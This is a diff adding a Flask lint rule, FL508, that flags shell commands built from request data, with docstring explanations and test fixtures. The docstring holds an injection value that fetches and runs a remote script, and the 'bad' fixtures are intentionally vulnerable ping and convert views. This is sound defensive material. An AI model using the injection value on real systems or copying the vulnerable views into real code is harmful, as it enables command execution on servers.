@@ -1,0 +1,113 @@
+"""FL508 shell-injection: A shell command is built from request data."""
+
+from __future__ import annotations
+
+import libcst as cst
+
+from flasklint.api import FileRule, Invalid, first_arg, is_dynamic_string, is_true, kwarg_value, string_value
+
+SHELL_CALLS = frozenset({"os.system", "os.popen", "commands.getoutput", "subprocess.getoutput"})
+
+
+SUBPROCESS_CALLS = frozenset(
+    {"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen"}
+)
+
+
+class ShellInjection(FileRule):
+    """A shell command is built from request data.
+
+    ## What it checks
+    `os.system(...)`, `os.popen(...)` and `subprocess.*(..., shell=True)`
+    whose command carries request data (critical), or, inside a view, is
+    built at run time (high). A maintenance command in a CLI command that
+    uses no request data is not a finding.
+
+    ## Why it matters
+    The shell interprets `;`, `&&`, `$(...)` and backticks in the command: a
+    value such as `x; curl evil.sh | sh` runs whatever the client wants.
+
+    ## Example
+    ```python
+    os.system("convert " + request.args["file"] + " out.png")
+    ```
+
+    ## Use instead
+    ```python
+    subprocess.run(["convert", filename, "out.png"], check=True)   # no shell, a list of arguments
+    ```
+    """
+
+    code = "FL508"
+    name = "shell-injection"
+    skill = "security"
+    severity = "critical"
+    weight = 2.0
+    good = (
+        """\
+import os
+import subprocess
+
+import click
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.cli.command("backup")
+def backup():
+    os.system("pg_dump app > backup.sql")
+
+
+@app.post("/thumb")
+def thumb():
+    subprocess.run(["convert", request.form["name"], "out.png"], check=True)
+    return "", 204
+""",
+    )
+    bad = (
+        Invalid(
+            """\
+import os
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.get("/ping")
+def ping():
+    host = request.args.get("host", "")
+    return os.popen("ping -c 1 " + host).read()
+""",
+            expect=("app.py:11",),
+        ),
+        Invalid(
+            """\
+import subprocess
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.post("/convert")
+def convert():
+    subprocess.run(f"convert {request.form['name']} out.png", shell=True, check=True)
+    return "", 204
+""",
+            expect=("app.py:10",),
+        ),
+    )
+
+    def visit_Call(self, node: cst.Call) -> None:
+        qual = self.ctx.qualname(node.func) or ""
+        if not (qual in SHELL_CALLS or (qual in SUBPROCESS_CALLS and is_true(kwarg_value(node, "shell")))):
+            return
+        command = first_arg(node) or kwarg_value(node, "args")
+        if command is None or string_value(command) is not None:
+            return
+        if self.ctx.is_request_derived(command):
+            self.report(node, f"{qual}() runs a shell command built from request data: command injection")
+        elif self.ctx.in_request_handler and is_dynamic_string(command):
+            self.report(node, f"{qual}() in a view runs a shell command built at run time", "high")
